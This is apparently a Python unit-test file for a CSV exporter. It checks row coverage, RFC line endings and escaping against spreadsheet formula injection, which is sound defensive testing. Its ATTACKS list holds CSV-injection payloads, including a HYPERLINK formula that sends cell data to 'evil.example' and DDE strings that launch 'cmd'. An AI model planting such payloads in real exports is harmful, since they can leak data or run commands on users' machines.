"""The table: what a spreadsheet reads, and nothing that one runs."""

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.analysis.analyses.documents import attacked, busy, document
from weir.analysis.analyses.export_csv import COLUMNS, cell, render_csv

SIGNS = "=+-@|%\t\r\uff1d\uff0b\uff0d\uff20"
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\0=1+1",
    '"=1+1',
)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_finding_and_every_fact_has_a_row() -> None:
    told = document(busy(), busy("payments"))
    found = rows(render_csv(told))
    assert tuple(found[0]) == COLUMNS
    for stream in told["streams"]:
        own = [row for row in found if row["stream"] == stream["name"]]
        findings = [row for row in own if row["kind"] == "finding"]
        assert [row["text"] for row in findings] == [one["title"] for one in stream["findings"]]
        facts = {row["name"]: row for row in own if row["kind"] == "fact"}
        assert set(facts) == {fact["name"] for fact in stream["facts"]}
    demand = next(row for row in found if row["name"] == "write utilization, p99")
    assert float(demand["value"]) > 0
    assert demand["metric"] == "IncomingBytes, IncomingRecords"
    assert (demand["period_s"], demand["complete"]) == ("60", "false")


def test_lines_end_as_the_rfc_says() -> None:
    text = render_csv(document(busy()))
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_a_formula(attack: str) -> None:
    # Given a document in which a stranger has written before every text
    told = attacked(document(busy()), attack)
    for row in rows(render_csv(told)):
        for name, value in row.items():
            # Then no cell begins as a formula does, but for a negative number
            if value and value.strip()[:1] in SIGNS:
                assert name == "value"
                assert float(value) < 0


@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    made = cell(text)
    assert isinstance(made, str)
    assert not made.lstrip().startswith(tuple(SIGNS))
    assert made.removeprefix("'") == text.replace("\0", "") or made == text


@pytest.mark.parametrize(("value", "told"), [(None, ""), (True, "true"), (-1.5, -1.5), (0, 0), ("a", "a"), ("", "")])
def test_values_are_told_as_they_are(value: Any, told: Any) -> None:
    assert cell(value) == told
